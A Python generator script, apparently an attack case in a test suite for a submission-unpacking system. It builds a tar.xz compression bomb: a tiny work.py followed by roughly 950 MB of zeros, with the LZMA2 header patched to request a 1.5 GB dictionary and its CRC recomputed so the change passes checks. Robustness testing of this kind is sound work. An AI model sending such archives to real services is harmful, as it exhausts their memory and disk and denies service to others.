# attack: >-
#   A tar.xz of 150 kB whose header asks for a dictionary of 1.5 GB, which unpacking fills as far as it is allowed to go.
# mark: 0
# naive: none
# kind: generator

import lzma
import struct
import tarfile
import zlib
from pathlib import Path

MB = 950


def submission(folder: Path, tokens: dict[str, str]) -> None:
    first, big = tarfile.TarInfo("work.py"), tarfile.TarInfo("zeros.bin")
    first.size, big.size = 4, MB * 2**20
    path = folder / "work.tar.xz"
    with lzma.open(path, "wb", preset=0) as packed:
        packed.write(first.tobuf() + b"x=1\n" + bytes(508))
        packed.write(big.tobuf())
        for _ in range(MB):
            packed.write(bytes(2**20))
        packed.write(bytes(1024))
    whole = bytearray(path.read_bytes())
    size = (whole[12] + 1) * 4  # of the block's header, which follows 12 bytes
    assert whole[14] == 0x21 and whole[15] == 1
    whole[16] = 37  # 1.5 GB
    whole[12 + size - 4 : 12 + size] = struct.pack("<I", zlib.crc32(bytes(whole[12 : 12 + size - 4])))
    path.write_bytes(whole)
